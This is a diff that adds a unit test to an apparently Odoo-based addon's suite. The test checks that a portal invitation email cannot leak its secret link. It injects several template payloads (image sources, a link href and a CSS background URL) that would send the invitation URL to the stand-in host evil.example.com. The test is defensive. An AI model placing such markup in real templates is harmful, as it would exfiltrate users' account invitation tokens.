@@ -33,6 +33,28 @@ class TestLinkSecrets(PublicMethodsCase, PortalInvitationCommon, GuestOrderCommo
             for number in range(self.invitation.link_number + 3)
         ]
 
+    def test_a_template_can_not_send_a_link_elsewhere_by_what_its_mail_loads(self):
+        template = self.env.ref("sale_auto_portal_user.mail_template_portal_invitation")
+        url = "{{ object._get_portal_invitation_url() }}"
+        for number, markup in enumerate(
+            (
+                f'<img t-attf-src="https://evil.example.com/p.png?{url}"/>',
+                f'<img t-attf-src="https://evil.example.com/p.png?a {url}"/>',
+                f'<img t-attf-src="https://evil.example.com/p.png?<a href=&quot;{url}&quot;"/>',
+                f'<a t-attf-href="https://evil.example.com/?{url}">x</a>',
+                f"""<p t-attf-style="background: url('https://evil.example.com/?{url}')">x</p>""",
+            )
+        ):
+            with self.subTest(markup):
+                body = template.body_html
+                template.body_html = str(body) + markup
+                _order, invitation = self.invite(email=f"victim{number}@example.com")
+                mail = self.send()[f"victim{number}@example.com"]
+                template.body_html = body
+                (link,) = re.findall(r'href="https?://[^/"]+/my/invitation/\d+/(\w{20,})"', mail)
+                self.assertEqual(mail.count(link), 1)
+                self.assertNotIn(link, "".join(re.findall(r"evil\.example\.com[^<]*", mail)))
+
     def find_methods(self):
         """Find the methods that the addon adds to any model."""
         found = {}
